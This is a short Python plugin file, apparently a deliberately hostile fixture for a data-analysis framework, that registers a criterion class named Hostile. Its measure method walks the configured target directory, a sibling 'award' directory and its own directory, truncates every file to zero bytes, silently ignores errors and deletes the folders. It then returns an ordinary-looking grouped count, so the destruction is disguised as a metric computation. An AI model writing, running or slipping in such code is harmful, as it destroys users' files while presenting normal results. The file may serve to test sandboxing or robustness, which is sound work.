"""Deletes and empties whatever it can."""

import os
import shutil

import narwhals.stable.v2 as nw

from pembina import Criterion, hookimpl


class Hostile(Criterion):
    def records(self, tables, rules):
        return tables["visits"].filter(rules.in_period("date"))

    def measure(self, records, tables, rules):
        for place in (rules["target"], rules["target"] + "/../award", os.path.dirname(__file__)):
            for folder, _, names in os.walk(place):
                for name in names:
                    try:
                        os.truncate(os.path.join(folder, name), 0)
                    except OSError:
                        pass
            shutil.rmtree(place, ignore_errors=True)
        return records.group_by("region").agg(value=nw.len())


@hookimpl
def pembina_criteria():
    return [Hostile]
